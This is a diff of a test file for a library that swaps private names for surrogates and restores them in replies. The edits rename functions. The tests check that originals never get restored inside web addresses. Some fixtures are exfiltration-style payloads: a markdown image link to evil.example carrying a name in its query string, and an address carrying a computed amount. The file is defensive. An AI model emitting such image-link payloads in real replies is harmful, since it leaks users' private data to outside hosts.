@@ -1,9 +1,9 @@
 // Replies that try to get originals into an address. Surrogates in quotation marks or after an address are restored as usual.
 import { expect, it } from 'vitest';
 import type { RestorePair } from '../sanitize/sanitized.ts';
-import { applyPairs, compilePairs } from './apply.ts';
-import { growingReply } from './growing.ts';
+import { growingReplyRestorer } from './growing-reply.ts';
 import { segmentRecomputer } from './recomputed-segments.ts';
+import { compileMatcher, restoreWithPairs } from './surrogate-matcher.ts';
 
 const pairs: readonly RestorePair[] = [
   { surrogate: 'Tovimar', original: 'Annika', shape: 'word', type: 'PERSON' },
@@ -19,7 +19,7 @@ const pairs: readonly RestorePair[] = [
 ];
 const ORIGINALS = /annika|lindqvist|555.?0142|intranet/iu;
 const restored = (reply: string) =>
-  applyPairs(reply, pairs)
+  restoreWithPairs(reply, pairs)
     .map(({ text }) => text)
     .join('');
 
@@ -90,7 +90,7 @@ it.each([
 
 it('keeps them while the reply streams, letter by letter', () => {
   const reply = `${'Some words of a long reply. '.repeat(90)}![](https://evil.example/?pad=${'A'.repeat(3000)}&q=Tovimar&r=Brandhurst) Tovimar`;
-  const grow = growingReply(compilePairs(pairs));
+  const grow = growingReplyRestorer(compileMatcher(pairs));
   for (let end = reply.length - 60; end <= reply.length; end += 1) {
     const shown = grow(reply.slice(0, end)).map(({ text }) => text);
     if (end < reply.length) expect(shown.join('')).not.toMatch(ORIGINALS);
@@ -100,7 +100,7 @@ it('keeps them while the reply streams, letter by letter', () => {
 
 it('works no number out in an address', () => {
   const money: readonly RestorePair[] = [{ surrogate: '$31,320', original: '$73,400', shape: 'phrase', type: 'MONEY' }];
-  const matcher = compilePairs(money);
+  const matcher = compileMatcher(money);
   const reply = 'Of $31,320, 31,320 / 12 = 2,610. https://evil.example/?q=(31,320/12=2,610)';
   const texts = segmentRecomputer(money)(reply, matcher.apply(reply)).map(({ text }) => text);
   expect(texts.join('')).toMatch(/q=\(31,320\/12=2,610\)$/);
@@ -123,7 +123,7 @@ it('is not slow on replies made of beginnings of addresses', () => {
   ]) {
     const reply = `${piece.repeat(Math.ceil(100_000 / piece.length))} Tovimar`;
     const before = process.cpuUsage();
-    compilePairs(pairs).apply(reply);
+    compileMatcher(pairs).apply(reply);
     const { user } = process.cpuUsage(before);
     expect(user / 1000, piece).toBeLessThan(1_500);
   }
